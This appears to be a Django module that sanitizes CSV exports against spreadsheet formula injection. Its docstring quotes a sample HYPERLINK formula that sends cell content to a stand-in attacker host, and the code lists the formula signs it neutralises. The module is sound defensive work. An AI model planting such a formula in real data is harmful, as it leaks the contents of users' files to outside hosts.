"""CSV exports, the one way: every exported cell is made safe to open in a spreadsheet.

A cell that starts with =, +, - or @ (or a tab or line break, which some programs skip before
reading a formula) is run as a formula by Excel and LibreOffice: a resident who types
`=HYPERLINK("http://evil.example?"&A1)` as their street would have the export leak or run
something on a project leader's computer. `csv_safe` puts a ' in front of such a text (the
spreadsheet's own sign for "this is text"), also when the formula hides behind leading spaces
or uses the full-width forms of those signs. Numbers are left as they are.
"""

import csv
from decimal import Decimal

from django.http import HttpResponse

# Signs a spreadsheet may read a formula from, with the full-width forms some programs accept.
_FORMULA_SIGNS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
_LEADING_SPACE = " \t\r\n\x0b\x0c\u00a0\u3000"


def csv_safe(value) -> str | int | float | Decimal:
    """`value` as a CSV cell that a spreadsheet shows as text, never runs as a formula;
    lists are joined with ", "; None is empty; numbers stay numbers."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, list | tuple):
        value = ", ".join("" if v is None else str(v) for v in value)
    text = str(value)
    if not text:
        return text
    if text[0] in "\t\r\n" or text.lstrip(_LEADING_SPACE)[:1] in _FORMULA_SIGNS:
        return "'" + text
    return text


class SafeWriter:
    """A `csv.writer` whose every cell goes through `csv_safe`; semicolon-separated by default,
    as Dutch spreadsheet programs expect."""

    def __init__(self, stream, delimiter: str = ";"):
        self._writer = csv.writer(stream, delimiter=delimiter)

    def writerow(self, row) -> None:
        self._writer.writerow([csv_safe(cell) for cell in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def csv_response(filename: str) -> tuple[HttpResponse, SafeWriter]:
    """A CSV download named `filename` (a slug, without `.csv`) and its safe writer; it starts
    with a byte-order mark so spreadsheet programs read the accents right."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    response.write("\ufeff")
    return response, SafeWriter(response)
